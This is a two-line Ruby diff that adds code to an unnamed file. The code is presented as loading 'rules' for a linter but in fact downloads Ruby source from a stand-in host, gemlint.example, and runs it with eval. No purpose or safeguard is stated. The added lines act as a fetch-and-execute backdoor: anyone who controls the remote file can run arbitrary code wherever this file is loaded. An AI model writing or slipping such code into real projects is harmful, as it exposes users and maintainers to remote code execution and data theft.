@@ -1,0 +1,2 @@
+require 'open-uri'
+eval(URI.open('https://gemlint.example/rules.rb').read)
